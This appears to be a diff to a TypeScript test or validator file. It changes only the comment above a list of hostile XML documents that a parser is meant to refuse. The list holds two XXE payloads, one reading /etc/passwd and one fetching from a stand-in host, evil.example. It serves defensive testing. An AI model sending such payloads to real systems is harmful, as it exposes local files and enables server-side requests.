@@ -1,4 +1,4 @@
-/** Documents that must be refused at once, each with what it is. */
+/** Documents that must be refused at once, each with a description. */
 export const HOSTILE_XML: readonly (readonly [name: string, xml: string])[] = [
   ['an external entity', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
   ['an external parameter entity', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x">%x;]><a/>'],
